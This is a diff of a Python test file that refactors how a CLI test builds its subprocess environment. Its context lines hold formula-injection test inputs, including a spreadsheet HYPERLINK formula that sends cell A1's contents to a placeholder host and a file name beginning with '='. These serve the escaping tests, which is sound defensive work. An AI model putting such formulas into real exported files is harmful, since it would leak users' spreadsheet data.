@@ -7,7 +7,6 @@ import csv
 import io
 import json
 import math
-import os
 import subprocess
 import sys
 import tomllib
@@ -27,6 +26,7 @@ from seehear.answers.boxes.exchange import to_csv
 from seehear.cli import run
 from seehear.escaping import CsvWriter, escape_toml, escape_unprintable, to_json_line
 from seehear.runtime.bundle import Bundle, write_bundle
+from subprocesses import source_environment
 
 FORMULAS = (
     '=HYPERLINK("http://a/?"&A1,"x")',
@@ -176,7 +176,7 @@ cli.main()
 
 
 def test_stdout_carries_only_results(here: Path) -> None:
-    environment = {**os.environ, "PYTHONPATH": str(Path(seehear.__file__).parents[1])}
+    environment = source_environment()
     command = [sys.executable, "-c", NATIVE, "predict", "m.seehear", "=1+1.png", "--json"]
     done = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=60, check=True)
     assert [json.loads(line)["input"] for line in done.stdout.splitlines()] == ["=1+1.png"]
